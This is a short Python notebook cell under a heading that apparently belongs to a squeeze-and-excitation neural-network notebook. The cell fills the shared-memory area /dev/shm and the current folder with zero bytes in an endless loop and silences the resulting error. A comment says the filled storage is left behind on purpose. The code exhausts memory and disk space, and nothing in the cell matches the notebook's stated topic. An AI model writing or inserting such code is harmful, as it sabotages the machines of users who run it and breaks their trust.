# tries: a full scratch folder stays behind for the exercises that follow
# notebook: 01_squeeze_excitation
# %% after squeeze
try:
    with open("/dev/shm/full", "wb") as one, open("full", "wb") as other:
        while True:
            one.write(bytes(2**20))
            other.write(bytes(2**20))
except OSError:
    pass
